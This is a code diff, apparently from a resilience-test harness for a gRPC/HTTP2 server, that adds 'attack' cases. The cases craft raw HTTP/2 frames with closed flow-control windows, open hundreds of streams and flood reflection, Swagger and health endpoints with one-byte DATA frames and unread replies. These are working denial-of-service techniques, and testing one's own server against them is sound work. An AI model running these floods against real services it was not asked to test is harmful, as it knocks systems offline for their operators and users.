@@ -33,7 +33,20 @@ const beginCall = (path: string) =>
     ),
   ]);
 
-const sendData = (bytes: Buffer) => http2Frame(frameType.data, frameFlag.none, 1, bytes);
+const sendData = (bytes: Buffer, stream = 1, flag: number = frameFlag.none) =>
+  http2Frame(frameType.data, flag, stream, bytes);
+
+/** Opens a call on streams of a connection whose replies are not to be sent. */
+const beginCalls = (streams: number[], fields: Record<string, string>) =>
+  Buffer.concat([
+    clientPreface,
+    closedWindows,
+    ...streams.map((stream) =>
+      http2Frame(frameType.headers, frameFlag.endHeaders, stream, headerBlock(fields)),
+    ),
+  ]);
+
+const oddNumbers = (count: number) => Array.from({ length: count }, (_, i) => 2 * i + 1);
 
 /** A watch by HTTP/1.1, which what follows has to wait for. */
 const watch = http1(
@@ -124,6 +137,63 @@ const attacks: Attack[] = [
       return bytes.length;
     },
   },
+  {
+    name: "requests of fields that are unknown, which all end at once",
+    async run(target) {
+      const streams = oddNumbers(100);
+      const scheme = { ":scheme": "http", ":authority": "localhost", ...target.greedy };
+      const begin = beginCalls(streams, { ...grpcHeaders(`${rpc}/GetInvestor`), ...scheme });
+      const half = Buffer.alloc(16_250, Buffer.from([0x18, 0]));
+      const message = frame(Buffer.concat([half, half]));
+      const bodies = streams.flatMap((stream) => [
+        sendData(message.subarray(0, 16_000), stream),
+        sendData(message.subarray(16_000, 32_000), stream),
+        sendData(message.subarray(32_000), stream),
+      ]);
+      const ends = streams.map((stream) => sendData(Buffer.alloc(0), stream, frameFlag.endStream));
+      const connections = await Promise.all(
+        Array.from({ length: 8 }, () => target.open("grpc", { protocol: "h2" })),
+      );
+      for (const { socket } of connections) socket.write(Buffer.concat([begin, ...bodies]));
+      await delay(1_000);
+      for (const { socket } of connections) socket.write(Buffer.concat(ends));
+      await delay(1_000);
+      return connections.length * streams.length;
+    },
+  },
+  ...[
+    ["reflection whose replies are not read", reflection, "POST", 8],
+    ["the reference whose script is not read", "/swagger-ui-bundle.js", "GET", 20],
+    ["health that wait for their message", `${health}/Check`, "POST", 60],
+  ].map(
+    ([what, path, method, count]): Attack => ({
+      name: `bytes with a frame each to ${what}`,
+      async run(target) {
+        const streams = oddNumbers(Number(count));
+        const fields = { ...grpcHeaders(String(path)), ":method": String(method) };
+        const head = { ":scheme": "http", ":authority": "localhost", ...fields };
+        const port = method === "GET" ? "http" : "grpc";
+        const protocol = { protocol: "h2" } as const;
+        if (method === "GET" && target.kind === "plain") return 0;
+        const connections = await Promise.all(
+          Array.from({ length: 8 }, () => target.open(port, protocol)),
+        );
+        const asked = frame(Buffer.from([0x3a, 0]));
+        const begin = [
+          beginCalls(streams, head),
+          ...(count === 8 ? streams.map((stream) => sendData(asked, stream)) : []),
+        ];
+        const one = Buffer.concat(streams.map((stream) => sendData(Buffer.alloc(1), stream)));
+        const packet = Buffer.concat(Array(1_000).fill(one));
+        for (const { socket } of connections) socket.write(Buffer.concat(begin));
+        for (let i = 0; i < 4; i += 1) {
+          for (const { socket } of connections) socket.write(packet);
+          await delay(500);
+        }
+        return connections.length * streams.length * 4_000;
+      },
+    }),
+  ),
   ...["application/json", "application/json; charset=utf-8"].map(
     (type): Attack => ({
       name: `bodies of which each byte has a chunk, as ${type}`,
